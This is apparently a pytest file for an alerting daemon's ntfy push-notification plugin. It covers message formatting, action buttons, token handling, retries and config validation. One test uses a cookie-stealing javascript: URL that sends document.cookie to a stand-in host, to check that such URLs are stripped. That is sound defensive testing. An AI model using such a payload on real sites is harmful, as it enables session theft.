"""The ntfy channel plugin against a real local HTTP server standing in for an ntfy server."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from alertd_ntfy import CHANNEL, NtfySettings, resolve_topic
from channel_fixtures import HttpPeer, Reply, closed_port_url, make_notification
from helpers import run_cli_in_process, write_config
from inbound_fixtures import Db, sns_config
from inprocess import in_process
from test_escalation import open_in_process

pytestmark = pytest.mark.usefixtures("each_backend")  # SQLite and PostgreSQL (tests/postgres.py)

TOKEN = "tk_abcdefghijklmnopqrstuvwxyz012"


@pytest.fixture
def peer() -> Iterator[HttpPeer]:
    with HttpPeer() as server:
        server.reply = Reply(200, {"id": "hGfx1z2Qp", "time": 1767600001, "event": "message", "topic": "x"})
        yield server


def settings(peer_or_url: HttpPeer | str, **values: Any) -> NtfySettings:
    server = peer_or_url if isinstance(peer_or_url, str) else peer_or_url.url
    return NtfySettings.model_validate({"server": server, "timeout": 2, **values})


def push(address: str = "alice-pager", purpose: str = "alert", **overrides: Any) -> Any:
    return make_notification(purpose, kind="push", address=address, **overrides)


async def test_publishes_json_with_action_buttons(peer: HttpPeer) -> None:
    notification = push()
    result = await CHANNEL.send(notification, settings(peer, token=TOKEN), None)
    assert result.status == "sent", result.error
    assert result.provider_id == "hGfx1z2Qp"

    (request,) = peer.requests
    assert (request.method, request.path) == ("POST", "/")
    assert request.headers["authorization"] == f"Bearer {TOKEN}"
    assert request.headers["content-type"] == "application/json"
    body = request.json()
    assert body["topic"] == "alice-pager"
    assert body["title"] == "[CRITICAL] #42 Failed console login for root"
    assert body["priority"] == 5
    assert "3 failed sign-ins in 5 minutes" in body["message"]
    assert "account: 123456789012" in body["message"]
    assert body["tags"][0] == "rotating_light" and "security" in body["tags"]
    assert body["click"] == "https://console.aws.example/cloudtrail/event/abc"
    assert body["actions"] == [
        {"action": "http", "label": "Acknowledge", "url": notification.links["ack"], "method": "POST", "clear": True},
        {"action": "http", "label": "Close", "url": notification.links["close"], "method": "POST", "clear": True},
        {"action": "view", "label": "Open", "url": "https://console.aws.example/cloudtrail/event/abc"},
    ]


async def test_a_javascript_url_is_neither_click_nor_action(peer: HttpPeer) -> None:
    notification = push(alert={"url": "javascript:fetch('//evil.example/'+document.cookie)"})
    result = await CHANNEL.send(notification, settings(peer), None)
    assert result.status == "sent", result.error
    body = peer.requests[0].json()
    assert "click" not in body
    assert [a["label"] for a in body["actions"]] == ["Acknowledge", "Close"]
    assert "javascript" not in peer.requests[0].body.decode().lower()


async def test_closure_notice_is_low_priority_without_buttons(peer: HttpPeer) -> None:
    result = await CHANNEL.send(push(purpose="closed"), settings(peer), None)
    assert result.status == "sent", result.error
    body = peer.requests[0].json()
    assert body["title"].startswith("[RESOLVED] #42")
    assert body["priority"] == 2
    assert "actions" not in body
    assert body["tags"][0] == "white_check_mark"
    assert "authorization" not in peer.requests[0].headers


@pytest.mark.parametrize(("severity", "priority"), [("critical", 5), ("WARNING", 4), ("info", 3), ("", 3)])
async def test_priority_follows_severity(peer: HttpPeer, severity: str, priority: int) -> None:
    await CHANNEL.send(push(alert={"severity": severity, "url": None}), settings(peer), None)
    body = peer.requests[0].json()
    assert body["priority"] == priority
    assert "click" not in body
    assert [a["label"] for a in body["actions"]] == ["Acknowledge", "Close"]


async def test_topic_urls_and_where_the_token_goes(peer: HttpPeer) -> None:
    # A topic URL on the configured server (with a path prefix): token sent, published to the prefix.
    prefixed = settings(peer.url + "/ntfy/", token=TOKEN)
    assert (await CHANNEL.send(push(f"{peer.url}/ntfy/ops-team"), prefixed, None)).status == "sent"
    request = peer.requests[-1]
    assert request.path == "/ntfy/"
    assert request.json()["topic"] == "ops-team"
    assert request.headers["authorization"] == f"Bearer {TOKEN}"
    # A topic URL on another server: the token stays home.
    elsewhere = settings("https://ntfy.example.invalid", token=TOKEN)
    assert (await CHANNEL.send(push(f"{peer.url}/bob-pager"), elsewhere, None)).status == "sent"
    assert "authorization" not in peer.requests[-1].headers
    assert peer.requests[-1].json()["topic"] == "bob-pager"


def test_resolve_topic() -> None:
    assert resolve_topic("abc_DEF-1", "https://ntfy.sh") == ("https://ntfy.sh", "abc_DEF-1")
    assert resolve_topic("https://NTFY.sh/t1", "x") == ("https://ntfy.sh", "t1")
    for bad in ("has space", "a/b", "https://ntfy.sh/", "https://ntfy.sh/t?x=1", "ftp://h/t", "x" * 65):
        assert isinstance(resolve_topic(bad, "https://ntfy.sh"), str), bad


async def test_bad_topic_fails_without_a_request(peer: HttpPeer) -> None:
    result = await CHANNEL.send(push("not a topic!"), settings(peer), None)
    assert result.status == "failed"
    assert peer.requests == []


@pytest.mark.parametrize(
    ("reply", "status", "retry_after"),
    [
        (Reply(500, "oops"), "retry", None),
        (Reply(507, {"code": 50701, "http": 507, "error": "insufficient storage"}), "retry", None),
        (Reply(429, {"code": 42901, "http": 429, "error": "limit reached"}, {"Retry-After": "30"}), "retry", 30.0),
        (Reply(400, {"code": 40010, "http": 400, "error": "invalid request: actions invalid"}), "failed", None),
        (Reply(403, {"code": 40301, "http": 403, "error": "forbidden"}), "failed", None),
    ],
)
async def test_status_mapping(peer: HttpPeer, reply: Reply, status: str, retry_after: float | None) -> None:
    peer.reply = reply
    result = await CHANNEL.send(push(), settings(peer, token=TOKEN), None)
    assert result.status == status
    assert result.retry_after == retry_after
    assert str(reply.status) in (result.error or "")
    assert TOKEN not in (result.error or "")


async def test_connection_refused_is_retried() -> None:
    result = await CHANNEL.send(push(), settings(closed_port_url()), None)
    assert result.status == "retry"


async def test_timeout_is_retried(peer: HttpPeer) -> None:
    peer.reply = Reply(200, delay=3)
    started = time.monotonic()
    result = await CHANNEL.send(push(), settings(peer, timeout=0.3), None)
    assert result.status == "retry"
    assert time.monotonic() - started < 2


def test_check_config_names_bad_and_unknown_keys(tmp_path: Path) -> None:
    config = write_config(
        tmp_path,
        '\n[channels.ntfy]\nserver = "ntfy.sh"\ntopic = "x"\ntoken = 12345\n[channels.ntfy.priorities]\ncritical = 9\n',
    )
    result = run_cli_in_process("check-config", "-c", str(config))
    assert result.returncode == 1
    assert "channels.ntfy.topic: unknown key (expected one of: " in result.stderr
    assert "channels.ntfy.server: expected a string matching" in result.stderr
    assert "channels.ntfy.priorities.critical: expected a number <= 5; found number 9 (plugin ntfy)" in result.stderr
    assert "channels.ntfy.token: expected a string" in result.stderr


async def test_the_click_opens_the_console_page_when_the_notification_has_one(peer: HttpPeer) -> None:
    page = "https://alertd.example.com/alerts/42"
    assert (await CHANNEL.send(push(console_url=page), settings(peer), None)).status == "sent"
    body = peer.requests[0].json()
    assert body["click"] == page
    # The source stays one tap away, as the "Open" button.
    assert body["actions"][-1] == {
        "action": "view",
        "label": "Open",
        "url": "https://console.aws.example/cloudtrail/event/abc",
    }


PAGER = """
[channels.ntfy]
server = "{server}"
timeout = 2

[escalation_policies.ops]
[[escalation_policies.ops.levels]]
users = ["alice"]

[users.alice]
contact = {{ push = "alice-pager" }}
"""


@pytest.mark.parametrize(
    ("server", "web", "console"),
    [
        ('public_url = "https://alertd.example.com/"', "", True),
        ("", "", False),  # the listener's own address: a phone cannot open it
        ('public_url = "https://alertd.example.com"', "\n[web]\nenabled = false\n", False),
    ],
)
async def test_a_paged_alarm_clicks_through_to_the_console_or_the_source(
    tmp_path: Path, peer: HttpPeer, server: str, web: str, console: bool
) -> None:

    config = sns_config(
        tmp_path, PAGER.format(server=peer.url) + web, server=server, alarms='escalation_policy = "ops"'
    )
    async with in_process(config) as app:
        alert_id = await open_in_process(app, Db(tmp_path / "alertd.db"))
        await app.wait_until(lambda: peer.requests, what="the push")
    body = peer.requests[0].json()
    assert body["topic"] == "alice-pager" and f"#{alert_id}" in body["title"]
    if console:
        assert body["click"] == f"https://alertd.example.com/alerts/{alert_id}"
    else:
        assert body["click"].startswith("https://console.aws.amazon.com/cloudwatch/home?region=us-east-1#alarmsV2:")
